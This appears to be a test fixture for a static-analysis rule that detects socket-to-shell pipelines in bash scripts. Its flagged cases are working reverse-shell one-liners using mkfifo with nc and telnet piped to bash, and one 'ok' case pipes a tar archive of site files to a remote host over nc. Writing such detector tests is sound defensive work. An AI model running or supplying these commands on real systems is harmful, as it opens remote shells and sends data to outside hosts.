#!/bin/bash
# ok: socket-shell-pipeline
tar -c /srv/site | nc 203.0.113.9 9000
# ok: socket-shell-pipeline
openssl s_client -connect x.example:443 </dev/null | openssl x509 -noout -dates
# ok: socket-shell-pipeline
echo stats | nc -w1 cache.internal 11211
rm -f /tmp/f; mkfifo /tmp/f
# ruleid: socket-shell-pipeline
cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
# ruleid: socket-shell-pipeline
telnet 203.0.113.9 4444 | /bin/bash | telnet 203.0.113.9 4445
